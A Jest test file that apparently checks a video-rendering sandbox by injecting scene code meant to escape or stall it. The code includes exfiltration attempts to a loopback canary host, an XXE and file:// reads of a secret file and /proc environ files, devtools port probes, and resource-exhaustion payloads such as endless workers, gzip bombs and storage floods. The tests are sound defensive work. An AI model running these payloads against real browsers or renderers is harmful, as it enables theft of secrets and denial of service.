import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { AppError } from '../../contract/errors.ts';
import { limits } from '../../contract/limits.ts';
import { openStage } from '../../engine/stage/open-stage.ts';
import { filmOf, pixelsOf, testBundle } from '../engine/stage/film.ts';
import { type Canary, canaryColour, canaryWords, loopbackCanary } from './loopback-canary.ts';
import { descendants, isBrowser, survivors } from './process-tree.ts';

let stage: Awaited<ReturnType<typeof testBundle>>;
let canary: Canary;
let folder: string;
beforeAll(async () => {
  stage = await testBundle();
  canary = await loopbackCanary();
  folder = await mkdtemp(join(tmpdir(), 'framewright-canary-'));
  await writeFile(join(folder, 'secret.txt'), canaryWords);
});
afterAll(async () => {
  await canary?.[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
  await stage.cleanUp();
});

/** Statements with `web`, `place` and `file` in reach; `into(html)` puts elements into the page, `tell` writes words onto it. */
const waysOut: Record<string, string> = {
  'a transport beside the web': `const t = new (globalThis as any).WebTransport(web.replace('http', 'https')); t.ready.then(() => tell('ready'));`,
  'a worker that others share': `new SharedWorker(URL.createObjectURL(new Blob(['onconnect=()=>fetch(' + JSON.stringify(web) + ')'])));`,
  'a worker that serves': `navigator.serviceWorker?.register('/stage.js').then((r) => tell(r.scope)); navigator.serviceWorker?.register(URL.createObjectURL(new Blob(['fetch(1)'])));`,
  'worklets of sound and paint': `new AudioContext().audioWorklet.addModule(web); (CSS as any).paintWorklet?.addModule(web);`,
  'objects and embedded things': `into('<object data="' + web + '"></object><embed src="' + web + '"><fencedframe></fencedframe><portal src="' + web + '"></portal>');`,
  'pictures within drawings': `into('<svg width=9 height=9><image href="' + web + '" width=9 height=9 /><use href="' + web + '#x" /><filter id=q><feImage href="' + web + '" /></filter><rect filter="url(#q)" width=9 height=9 /></svg>');`,
  'addresses in style': `into('<style>@font-face{font-family:q;src:url(' + web + ')} #q{font-family:q;cursor:url(' + web + '),auto;mask-image:url(' + web + ');border-image:url(' + web + ') 1;list-style:url(' + web + ');content:image-set(url(' + web + ') 1x)}</style><li id=q>q</li>');`,
  'a typeface from code': `new FontFace('q', 'url(' + web + ')').load().then(() => tell('loaded'));`,
  'what goes with a film': `into('<video poster="' + web + '" autoplay><source src="' + web + '"><track default src="' + web + '"></video><audio autoplay src="' + web + '"></audio>');`,
  'links that load ahead': `for (const rel of ['manifest', 'icon', 'modulepreload', 'prerender', 'preload', 'compression-dictionary']) into('<link rel="' + rel + '" as="script" href="' + web + '">');`,
  'rules of speculation': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [web] }], prefetch: [{ source: 'list', urls: [web] }] }); document.head.append(s);`,
  'a page that is refreshed': `into('<meta http-equiv="refresh" content="0;url=' + web + '">');`,
  'reports of what is forbidden': `into('<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + web + '">'); new Image().src = '/x.png'; (globalThis as any).fetchLater?.(web);`,
  'another map of imports': `const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { q: web } }); document.head.append(s); new Function('return import("q")')().then(() => tell('imported'));`,
  'questions that wait': `const x = new XMLHttpRequest(); x.open('GET', web, false); x.send(); tell(x.responseText);`,
  'another base': `into('<base href="' + web + '">'); fetch('x').then((r) => r.text()).then(tell); new Image().src = 'y.png';`,
  'a document in a document': `into('<iframe srcdoc="&lt;base href=' + web + '&gt;&lt;img src=x&gt;&lt;script src=y&gt;&lt;/script&gt;"></iframe>');`,
  'a sheet that transforms': `const d = new DOMParser().parseFromString('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "' + 'file:' + '//' + file + '">]><q>&e;</q>', 'text/xml'); tell(d.documentElement.textContent);`,
  'a relay for calls': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + place + '?transport=tcp', username: 'a', credential: 'b' }], iceTransportPolicy: 'relay' }); p.createDataChannel('q'); p.createOffer().then((o) => p.setLocalDescription(o));`,
  'a caller at a known place': `const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]; a.createDataChannel('q'); a.createOffer().then(async (o) => { await a.setLocalDescription(o); await b.setRemoteDescription(o); const n = await b.createAnswer(); await b.setLocalDescription(n); await a.setRemoteDescription(n); const [host, port] = place.split(':'); for (const kind of ['udp', 'tcp']) await a.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + host + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0' }); });`,
  'sockets of the machine': `const g = globalThis as any; try { new g.TCPSocket(place.split(':')[0], Number(place.split(':')[1])); } catch {} try { new g.UDPSocket({ remoteAddress: '127.0.0.1', remotePort: Number(place.split(':')[1]) }); } catch {} (navigator as any).serial?.requestPort(); (navigator as any).usb?.requestDevice({ filters: [] });`,
  'who one is and what one pays': `(navigator.credentials as any)?.get({ identity: { providers: [{ configURL: web, clientId: 'q' }] } }); new (globalThis as any).PaymentRequest([{ supportedMethods: web }], { total: { label: 'q', amount: { currency: 'USD', value: '1' } } }).canMakePayment();`,
  'a second screen': `new (globalThis as any).PresentationRequest([web]).start(); (navigator as any).share?.({ url: web }); Notification.requestPermission();`,
  advertising: `(navigator as any).joinAdInterestGroup?.({ owner: location.origin, name: 'q', updateURL: web, biddingLogicURL: web }, 9e3); into('<img attributionsrc="' + web + '" src="' + web + '">'); (globalThis as any).sharedStorage?.worklet?.addModule(web);`,
  'files of the processes': `for (const f of ['/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline', file]) { into('<iframe src="' + 'file:' + '//' + f + '"></iframe><object data="' + 'file:' + '//' + f + '"></object>'); fetch('file:' + '//' + f).then((r) => r.text()).then(tell); }`,
  'the tools of developers': `for (const port of [9222, 9229, Number(place.split(':')[1])]) { try { new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser'); } catch {} } for (const scheme of ['view-source:', 'devtools:', 'filesystem:', 'blob:']) open(scheme + '//' + web);`,
};

/** Statements that stall, flood or fill; `scene` follows each. */
const waysToStall: Record<string, string> = {
  'threads without number': `for (let i = 0; i < 2000; i++) new Worker(URL.createObjectURL(new Blob(['for(;;);'])));`,
  'rooms with walls of their own': `for (let i = 0; i < 300; i++) { const f = document.createElement('iframe'); f.sandbox.add('allow-scripts'); f.srcdoc = '<script>for(;;);</' + 'script>'; document.body.append(f); }`,
  'a disk of its own': `navigator.storage.getDirectory().then(async (d) => { const w = await (await d.getFileHandle('q', { create: true })).createWritable(); for (;;) await w.write(new Uint8Array(1 << 26)); });`,
  'a cache of answers': `caches.open('q').then(async (c) => { for (let i = 0; ; i++) await c.put('/' + i, new Response(new Uint8Array(1 << 26))); });`,
  'a bomb of zeros': `const s = new CompressionStream('gzip'); const w = s.writable.getWriter(); (async () => { for (let i = 0; i < 4000; i++) await w.write(new Uint8Array(1 << 22)); })(); new Response(s.readable.pipeThrough(new DecompressionStream('gzip'))).arrayBuffer();`,
  'coders of films': `const g = globalThis as any; for (let i = 0; i < 64; i++) { const e = new g.VideoEncoder({ output() {}, error() {} }); e.configure({ codec: 'vp8', width: 4096, height: 4096 }); const c = new OffscreenCanvas(4096, 4096); c.getContext('2d'); for (let k = 0; k < 20; k++) e.encode(new g.VideoFrame(c, { timestamp: k })); }`,
  'something thrown that cannot be read': `throw { get message() { for (;;); }, get stack() { for (;;); }, toString() { for (;;); } };`,
  'something thrown that is too long': `const e = new Error('\\u001b[31m\\u0000' + 'x'.repeat(1 << 27)); e.stack = 'y'.repeat(1 << 27); throw e;`,
  'questions to a person': `alert(1); confirm('q'); prompt('q'); print(); onbeforeunload = () => 'stay'; location.reload();`,
  'a way back and forth': `setInterval(() => { history.back(); history.forward(); location.hash = String(Math.random()); close(); stop(); });`,
  'a name of megabytes': `document.title = 'x'.repeat(1 << 27); console.log('x'.repeat(1 << 27)); name = 'x'.repeat(1 << 27);`,
  'a stack of all calls': `Error.stackTraceLimit = Infinity; (Error as any).prepareStackTrace = () => { for (;;); }; (function deep(n: number): never { if (n > 8000) throw new Error('deep'); return deep(n + 1); })(0);`,
  'styles that ask for themselves': `document.body.insertAdjacentHTML('beforeend', '<style>:has(:has(*) *) *:nth-child(7n+3 of :has(~ *)) { color: red }</style>' + '<div>'.repeat(400) + '<i></i>'.repeat(20000)); for (let i = 0; i < 1e4; i++) { document.body.className = 'q' + i; document.body.offsetTop; }`,
  'a size that answers itself': `const d = document.createElement('div'); document.body.append(d); new ResizeObserver(() => { d.style.width = Math.random() * 1e7 + 'px'; d.textContent += 'x'.repeat(1e5); }).observe(d);`,
  'locks that nobody opens': `navigator.locks.request('q', () => new Promise(() => 0)); navigator.locks.request('q', { steal: true }, () => new Promise(() => 0)); const { port1, port2 } = new MessageChannel(); port1.onmessage = () => { port2.postMessage(new ArrayBuffer(1 << 20)); port2.postMessage(0); }; port2.postMessage(0);`,
  'rules of chance without end': `const spin = () => { crypto.getRandomValues(new Uint8Array(65536)); queueMicrotask(spin); }; spin();`,
};

const reaching = (statements: string) => `
import { useEffect, useState } from 'react';
import { AbsoluteFill, continueRender, delayRender } from 'remotion';
const place = '127.0.0.1:${canary.port}';
const web = 'http' + '://' + place + '/';
const file = ${JSON.stringify(join(folder, 'secret.txt'))};
export default function Scene() {
  const [said, say] = useState('');
  const [handle] = useState(() => delayRender('trying'));
  useEffect(() => {
    const tell = (what: unknown) => say((before) => before + ' ' + String(what));
    const into = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    addEventListener('unhandledrejection', (event) => event.preventDefault());
    const attempt = async () => { ${statements} };
    attempt().catch(() => 0);
    setTimeout(() => continueRender(handle), 300);
  }, []);
  return <AbsoluteFill style={{ fontSize: 20 }}>tried {said}</AbsoluteFill>;
}`;

const browsers = () =>
  descendants()
    .filter(isBrowser)
    .map(({ pid }) => pid);

/** Shows a scene: a picture and all that was told of it, or the error of ours that ended it, in time and with no process left. */
async function shown(code: string): Promise<{ picture: Buffer | null; told: string }> {
  const before = browsers();
  const started = performance.now();
  const outcome = await (async () => {
    await using film = await openStage({ bundle: stage.bundle, ...(await filmOf([{ code }])) });
    const picture = await film.capture(3, { format: 'png' });
    return { picture, told: JSON.stringify([(await film.measure(3)).texts, film.faults()]) };
  })().catch((error: unknown) => {
    expect(error).toBeInstanceOf(AppError);
    const { message, options } = error as AppError;
    return { picture: null, told: JSON.stringify([message, options.detail, options.members]) };
  });
  // Opening, showing and measuring may each take as long as a scene may.
  expect((performance.now() - started) / 1000).toBeLessThan(8 * limits.sceneReadySeconds);
  expect(await survivors(browsers().filter((pid) => !before.includes(pid)))).toEqual([]);
  return outcome;
}

test.each(Object.entries(waysOut))(
  '%s: nothing is reached, and nothing of the machine is shown or told',
  async (_what, statements) => {
    const { picture, told } = await shown(reaching(statements));
    expect(canary.hits()).toBe(0);
    for (const secret of [canaryWords, 'root:x:0', 'PATH=', 'DATABASE_URL']) expect(told).not.toContain(secret);
    if (picture) expect(holdsCanary(await pixelsOf(picture))).toBe(false);
  },
  120_000,
);

test.each(Object.entries(waysToStall))(
  '%s: a verdict or a picture in time, no process, a short report, and the next film is shown',
  async (_what, statements) => {
    const { told } = await shown(`${statements} export default () => <p>here</p>;`);
    expect(told.length).toBeLessThan(100_000);
    expect((await shown('export default () => <p>next</p>;')).picture).not.toBeNull();
  },
  120_000,
);

function holdsCanary(pixels: Buffer): boolean {
  for (let index = 0; index < pixels.length; index += 3) {
    if (canaryColour.every((value, channel) => Math.abs((pixels[index + channel] ?? 0) - value) < 8)) return true;
  }
  return false;
}
